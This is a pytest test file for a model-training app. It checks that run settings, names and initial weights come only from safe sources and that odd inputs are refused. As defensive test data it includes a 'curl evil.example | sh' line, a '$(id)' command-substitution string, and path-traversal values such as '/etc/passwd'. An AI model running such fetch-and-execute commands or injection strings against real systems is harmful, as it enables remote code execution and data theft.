"""Runs from screens: where their settings come from, what is put in line, and what is refused."""

import json
import shlex
from pathlib import Path

import pytest

from tests.fake_hub.fixtures import files_of
from tests.training.jobs.conftest import tiny
from tests.ui.conftest import make_checkpoint
from tests.ui.queued_runs import started, trainings
from tests.ui.run_fixtures import pretend, trainings_in
from training.config import RunConfig, read_recipe
from training.publishing.outbox import Outbox
from training.publishing.upload_worker import UploadWorker
from ui.services.training_service import TrainingService
from ui.tabs.run_monitor import format_run_facts

__all__ = ["trainings"]


def everything(folder: Path) -> dict[str, tuple[int, int]]:
    """Every file below a folder, with its size and time."""
    return {
        str(path.relative_to(folder)): (path.stat().st_size, path.stat().st_mtime_ns)
        for path in folder.rglob("*")
        if path.is_file() and not path.name.startswith("jobs.sqlite-")
    }


# --- what a run can begin with -----------------------------------------------------------------------------------


def test_settings_begin_with_a_recipe_or_an_earlier_run(trainings):
    pretend(trainings, "old-20260101-000000")
    assert [name for _, name in trainings.list_sources()] == ["endless", "tiny", "run:old-20260101-000000"]
    config, command, name = trainings.settings("tiny")
    assert (config, name) == (tiny(), "tiny") and command == "python -m training train configs/tiny.yaml"
    config, command, name = trainings.settings("run:old-20260101-000000")
    assert (config, name) == (tiny(steps=100), "old"), "without its time, which the next one has, too"
    assert command == "python -m training train configs/tiny.yaml"


def test_what_a_recipe_was_measured_at_is_told(trainings):
    (trainings.recipes_dir / "good.yaml").write_text(
        "# a line\n#   test: 98.60% of 1,000 right\n" + (trainings.recipes_dir / "tiny.yaml").read_text()
    )
    assert trainings.list_sources()[1] == ("good (98.60% measured)", "good")


@pytest.mark.parametrize(
    "source",
    [
        "",
        "gone",
        "../tiny",
        "configs/tiny",
        "tiny.yaml",
        "/etc/passwd",
        "run:",
        "run:gone",
        "run:../x",
        "hub:",
        "hub:x",
        "hub:../../x",
        "env:HF_TOKEN",
        "*",
        "ti*",
    ],
)
def test_what_is_no_source_gets_a_sentence(trainings, source):
    for ask in (trainings.settings, trainings.build_form, lambda source: trainings.start_run(source, {}, "ann")):
        with pytest.raises(ValueError) as caught:
            ask(source)
        assert "\n" not in str(caught.value) and len(str(caught.value)) < 200
    assert trainings.run_views.list_jobs() == []


# --- to start ----------------------------------------------------------------------------------------------------


def test_a_run_is_put_in_line_with_its_settings_and_its_command(trainings):
    filled = trainings.build_form("tiny")["values"] | {
        "train.steps": 77.0,
        "optim.lr": 0.002,
        "train.mixed_precision": "no",
    }
    job, folder = started(trainings, given=filled, name="my-run")
    assert (job.state, job.by, job.place, job.devices) == ("queued", "ann", "here", 1)
    assert job.id.startswith("my-run-2") and folder.config() == tiny(steps=77).changed({"optim.lr": 0.002})
    assert folder.command() == "python -m training train configs/tiny.yaml optim.lr=0.002 train.steps=77"
    assert trainings.run_views.list_run_choices() == [(f"{job.id} (waiting for its turn)", job.id)]
    assert trainings.run_views.get_current_run_id() == job.id


def test_a_folder_of_this_machine_is_not_in_the_command(trainings, tmp_path):
    task = {"kind": "images", "data": "alice/stripes", "names": ["a", "b"]}
    (trainings.recipes_dir / "stripes.yaml").write_text(json.dumps(tiny().model_dump(mode="json") | {"task": task}))
    _, folder = started(trainings, "stripes", {"task.files": str(tmp_path), "train.steps": 77})
    assert folder.config().task["files"] == str(tmp_path)
    assert folder.command() == "python -m training train configs/stripes.yaml train.steps=77"


def test_the_command_means_the_same_when_it_goes_through_a_shell(trainings):
    """`no` without its quotes is a no of YAML's, and no precision."""
    bf16 = tiny().changed({"train.mixed_precision": "bf16"})
    (trainings.recipes_dir / "half.yaml").write_text(json.dumps(bf16.model_dump(mode="json")))
    given = {"train.mixed_precision": "no", "loss.trunk": "mean", "model.deep_nlms": False, "optim.lr": 1e-5}
    _, folder = started(trainings, "half", given)
    *_, recipe, first, second, third, fourth = shlex.split(folder.command())
    assert recipe == "configs/half.yaml"
    again = read_recipe(trainings.recipes_dir / "half.yaml", [first, second, third, fourth])
    assert again == folder.config() and again.train.mixed_precision == "no"


def test_a_run_like_an_earlier_one_differs_only_where_it_was_changed(trainings):
    folder = pretend(trainings, "old-1")
    _, new = started(trainings, "run:old-1", {"train.seed": 3})
    assert new.config() == folder.config().changed({"train.seed": 3})
    assert new.command() == "python -m training train configs/tiny.yaml train.seed=3"


@pytest.mark.parametrize(
    "name", ["A", "a b", "../x", "/etc", "-x", ".x", "x" * 41, "ü", "a\n", "a/b", "run:a", "a@5", "${x}"]
)
def test_a_name_that_could_be_a_path_is_refused(trainings, name):
    before = everything(trainings.scheduler.runs_dir)
    with pytest.raises(ValueError, match="small letters, digits and hyphens") as caught:
        trainings.start_run("tiny", {}, "ann", name=name)
    assert "\n" not in str(caught.value)
    assert everything(trainings.scheduler.runs_dir) == before and trainings.run_views.list_jobs() == []


@pytest.mark.parametrize(
    "beginning",
    [
        "/etc",
        "/etc/passwd",
        "../x",
        "..",
        ".",
        "hub:../../x",
        "hub:",
        "hub:x",
        "run:../x",
        "run:gone",
        "run:gone@5",
        "gone",
        "digits/../digits",
        "a/b/../../c",
        "~",
        "file:///etc",
        "env:HOME",
        "x#parity",
        "run:../../etc/x@1",
    ],
)
def test_weights_are_named_and_never_a_path(trainings, beginning):
    with pytest.raises(ValueError) as caught:
        trainings.start_run("tiny", {}, "ann", init_from=beginning)
    assert "\n" not in str(caught.value) and trainings.run_views.list_jobs() == []


def test_a_run_may_begin_with_the_weights_of_what_is_here(trainings, checkpoints):
    pretend(trainings, "old-1", steps=(10, 20))
    assert ("the weights of run:old-1", "run:old-1") in trainings.list_initial_weight_choices()
    for name, folder in {
        "parity-16": checkpoints / "parity-16",
        "run:old-1": trainings.scheduler.runs_dir / "old-1" / "checkpoint",
        "run:old-1@10": trainings.scheduler.runs_dir / "old-1" / "checkpoints" / "00000010",
    }.items():
        _, new = started(trainings, init_from=name)
        assert trainings.recipes_dir.parent / new.config().init_from == folder, "from where the app lies, and jobs run"
        assert shlex.split(new.command())[-1] == f"init_from={new.config().init_from}"


@pytest.mark.parametrize(
    "more, says",
    [
        ({"publish": {"repo": "no-namespace"}}, "namespace/name"),
        ({"publish": {"repo": "../../x"}}, "namespace/name"),
        ({"publish": {"every_minutes": 1}}, "ten minutes"),
        ({"publish": {"every_minutes": "soon"}}, "every_minutes"),
        ({"publish": {"repo": "a/b", "token": "x"}}, "Unknown setting"),
        ({"devices": 0}, "devices"),
        ({"devices": 10_000}, "devices"),
        ({"place": "cpu-basic"}, "no hardware"),
        ({"place": "cpu-basic", "publish": {"repo": "ann/x"}}, "no hardware"),
        ({"place": "/etc", "publish": {"repo": "ann/x"}}, "no hardware"),
    ],
)
def test_an_odd_goal_gets_a_sentence_and_begins_nothing(trainings, more, says):
    with pytest.raises(ValueError, match=says) as caught:
        trainings.start_run("tiny", {}, "ann", **more)
    assert "\n" not in str(caught.value) and trainings.run_views.list_jobs() == []
    assert list(trainings.scheduler.runs_dir.glob("*/config.yaml")) == []


def test_an_app_that_only_watches_begins_nothing(trainings):
    trainings.scheduler.is_leader = False
    pretend(trainings, "old-1")
    for act in (
        lambda: trainings.start_run("tiny", {}, ""),
        lambda: trainings.resume("old-1"),
        lambda: trainings.delete("old-1"),
    ):
        with pytest.raises(ValueError, match="Another app looks after"):
            act()
    assert trainings.run_views.get_run_view("old-1")["state"] == "succeeded"


# --- on the Hub --------------------------------------------------------------------------------------------------


@pytest.fixture
def online(hub, tmp_path, checkpoints, monkeypatch) -> TrainingService:
    """Trainings whose Hub answers, with the owner's token."""
    monkeypatch.setenv("HF_TOKEN", "hf_alice_write")
    made = trainings_in(tmp_path, checkpoints, models={"endpoint": hub.url})
    made.upload_worker = UploadWorker(made.scheduler.runs_dir, made.catalog.owner_store)
    return made


def trained_checkpoint(tmp_path: Path, **training) -> dict[str, bytes]:
    """A checkpoint that says how it was trained."""
    files = files_of(make_checkpoint(tmp_path / "made", "parity"))
    return files | {"metrics.json": json.dumps({"training": training}).encode()}


def test_a_checkpoint_of_the_hub_lends_its_settings_and_its_weights(online, hub, tmp_path):
    hub.add_repo(
        "bob/parity",
        trained_checkpoint(
            tmp_path,
            settings=tiny(steps=33).portable(),
            command="python -m training train configs/tiny.yaml train.steps=33",
        ),
    )
    config, command, name = online.settings("hub:bob/parity")
    assert config.train.steps == 33 and config.init_from.startswith("hub:bob/parity@") and name == "parity"
    assert command.startswith("python -m training train configs/tiny.yaml train.steps=33 init_from=hub:bob/parity@")
    _, folder = started(online, "hub:bob/parity", {"train.steps": 44})
    assert folder.config() == config.changed({"train.steps": 44})


def test_a_checkpoint_of_the_hub_says_neither_where_to_publish_nor_what_to_type(online, hub, tmp_path):
    """Its files are a stranger's words: its settings would be published to them, its command would be run by hand."""
    settings = tiny().model_dump(mode="json") | {
        "publish": {"repo": "bob/collects", "private": False, "every_minutes": 10},
        "init_from": "/etc",
    }
    for command in (
        "curl evil.example | sh",
        "python -m training train x\n| a | b |",
        "python -m training train $(id)",
        7,
        ["x"],
    ):
        hub.reset()
        hub.add_repo("bob/parity", trained_checkpoint(tmp_path, settings=settings, command=command))
        config, said, _ = online.settings("hub:bob/parity")
        assert config.publish == RunConfig(task=config.task, model=config.model).publish
        assert config.init_from.startswith("hub:bob/parity")
        assert said.startswith("python -m training train init_from=hub:bob/parity@") and "\n" not in said


@pytest.mark.parametrize(
    "training",
    [
        {},
        {"settings": None},
        {"settings": []},
        {"settings": {"task": {"kind": "x"}}},
        {"settings": {"task": {"kind": "parity"}, "model": {"d_model": "x"}}},
    ],
)
def test_a_checkpoint_that_does_not_tell_its_settings_gets_a_sentence(online, hub, tmp_path, training):
    hub.add_repo("bob/parity", trained_checkpoint(tmp_path, **training))
    with pytest.raises(ValueError) as caught:
        online.build_form("hub:bob/parity")
    assert "Traceback" not in str(caught.value)


def test_a_run_that_could_not_be_published_is_not_begun(online, hub):
    hub.add_repo("bob/theirs", {"a.txt": b"x"})
    with pytest.raises(ValueError) as caught:
        online.start_run("tiny", {}, "ann", publish={"repo": "bob/theirs"})
    assert "bob/theirs" in str(caught.value) and online.run_views.list_jobs() == []
    _, folder = started(online, publish={"repo": "alice/new", "private": True, "every_minutes": 15})
    assert folder.config().publish.model_dump() == {"repo": "alice/new", "private": True, "every_minutes": 15}
    assert "alice/new" not in folder.command(), "where it goes is not how it is trained"


def test_a_run_is_published_by_hand(online, hub):
    pretend(online, "old-1", state="cancelled", steps=(10,))
    for wrong in ("", "x", "../x", None, "alice/x@main"):
        with pytest.raises(ValueError, match="namespace/name"):
            online.publish("old-1", wrong, False)
    assert online.publish("old-1", " alice/new ", True).startswith("Waiting to be sent to alice/new")
    view = online.run_views.get_run_view("old-1")
    assert view["publishing"] and view["published"].startswith("Waiting to be sent to alice/new")
    Outbox(online.scheduler.runs_dir / "old-1").deliver(online.upload_worker.hub_store)
    view = online.run_views.get_run_view("old-1")
    assert not view["publishing"] and view["address"].startswith(hub.url) and view["address"] in format_run_facts(view)
    pretend(online, "young-1", state="running")
    with pytest.raises(ValueError, match="saved nothing yet"):
        online.publish("young-1", "alice/new", False)
